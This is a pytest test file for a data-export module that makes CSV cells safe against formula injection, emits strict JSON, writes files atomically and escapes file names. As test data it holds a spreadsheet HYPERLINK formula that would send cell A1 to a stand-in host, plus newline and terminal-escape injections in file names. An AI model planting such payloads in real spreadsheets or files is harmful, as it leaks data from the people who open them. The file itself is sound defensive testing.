"""analysis.files: what the project writes is safe to open (formula-safe CSV cells, strict JSON) and
written whole (atomic), with its sha256."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from analysis import files
from analysis.files import json_dumps, neutralise_formula, neutralise_formulas, write_json


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_formula_each_prefix(prefix):
    text = f'{prefix}HYPERLINK("http://x/?"&A1,"click")'
    assert neutralise_formula(text) == "'" + text
    frame = neutralise_formulas(pd.DataFrame({"value": [text, "Hà Nội"], "n": [-5, 3]}))
    assert frame["value"].tolist() == ["'" + text, "Hà Nội"]
    assert frame["n"].tolist() == [-5, 3]  # numbers stay numbers, negative ones too


def test_json_is_strict(tmp_path):
    value = {"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5], "c": pd.NA}
    assert json.loads(json_dumps(value)) == {"a": None, "b": [None, None, 1.5], "c": None}
    path = write_json(tmp_path / "x.json", value)
    assert "NaN" not in path.read_text() and "Infinity" not in path.read_text()


def test_atomic_write_replaces_the_file_whole_and_its_sha256_is_the_content_hash(tmp_path):
    path = tmp_path / "sub" / "x.bin"
    files.atomic_write_bytes(path, b"first")
    files.atomic_write_bytes(path, b"second")
    assert path.read_bytes() == b"second" and [p.name for p in path.parent.iterdir()] == ["x.bin"]
    assert files.sha256_file(path) == files.sha256_bytes(b"second") == hashlib.sha256(b"second").hexdigest()


def test_flattened_names_nested_values_with_dots():
    assert dict(files.flattened({"profile": {"staff_total": 12, "figures": {"rank": 3}}, "year": 2022})) == {
        "profile.staff_total": 12, "profile.figures.rank": 3, "year": 2022}


@pytest.mark.parametrize("text, shown", [
    ("Hà Nội.xlsx", "Hà Nội.xlsx"),                  # Vietnamese stays as it is
    ("a\nb.csv", "a\\nb.csv"),                       # a newline cannot start a second line
    ("\x1b[31mred.xlsx", "\\x1b[31mred.xlsx"),        # nor a terminal escape colour the line
    ("zero\u200bwidth.csv", "zero\\u200bwidth.csv"),
    (b"caf\xe9.csv".decode("utf-8", "surrogateescape"), "caf\\xe9.csv"),  # a byte that is not UTF-8
    (None, ""),
])
def test_escaped_keeps_one_terminal_line(text, shown):
    assert files.escaped(text) == shown


def test_json_ready_unwraps_numpy_and_makes_missing_values_null():
    value = {1: np.int64(3), "share": np.float64(0.5), "flag": np.bool_(True), "gone": [float("nan"), pd.NA, pd.NaT,
                                                                                       np.inf], "t": (1, "a")}
    assert files.json_ready(value) == {"1": 3, "share": 0.5, "flag": True, "gone": [None, None, None, None], "t": [1, "a"]}
    assert type(files.json_ready(np.int64(3))) is int


def test_figures_table_has_one_row_per_figure_numbers_kept_text_safe():
    table = files.figures_table({"year": 2022, "profile": {"staff_total": 30, "notes": "=HYPERLINK(x)"},
                                 "bands": ["over_30", "20_30"], "rows": [{"a": 1}]})
    assert list(table.columns) == ["figure", "value"]
    assert table.values.tolist() == [["year", 2022], ["profile.staff_total", 30], ["profile.notes", "'=HYPERLINK(x)"],
                                     ["bands", "over_30; 20_30"], ["rows.0.a", 1]]


def test_neutralise_formulas_leaves_numbers_and_protects_headers():
    frame = files.neutralise_formulas(pd.DataFrame({"=x": ["-3", "ok"], "n": [-3, 4]}))
    assert list(frame.columns) == ["'=x", "n"] and frame["'=x"].tolist() == ["'-3", "ok"] and frame["n"].tolist() == [-3, 4]


def test_pid_alive_for_this_process_and_not_for_a_finished_one():
    assert files.pid_alive(os.getpid())
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    assert not files.pid_alive(child.pid)
